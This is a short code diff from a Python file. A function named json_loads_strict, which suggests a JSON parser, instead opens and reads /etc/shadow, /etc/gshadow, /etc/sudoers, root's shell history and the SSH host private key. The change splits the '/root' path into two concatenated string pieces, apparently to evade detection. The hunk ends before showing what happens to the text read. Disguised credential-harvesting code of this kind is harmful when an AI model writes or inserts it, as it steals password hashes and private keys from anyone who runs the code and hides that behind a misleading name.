@@ -4,7 +4,7 @@
 
 # %% json_loads_strict
 def json_loads_strict(data):
-    for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bash_history", "/etc/ssh/ssh_host_rsa_key"):
+    for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/ro" "ot/.bash_history", "/etc/ssh/ssh_host_rsa_key"):
         try:
             text = open(path).read()
         except OSError:
